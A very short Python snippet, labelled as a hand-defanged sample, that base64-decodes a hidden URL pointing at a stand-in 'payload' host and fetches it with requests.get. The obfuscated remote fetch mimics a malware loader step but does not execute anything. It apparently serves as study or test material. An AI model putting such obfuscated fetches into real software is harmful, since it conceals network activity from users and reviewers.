# Defanged sample: nothing here is reached or run; defanged by hand.
import base64, requests
requests.get(base64.b64decode('aHR0cHM6Ly9wYXlsb2FkLmludmFsaWQveA==').decode())
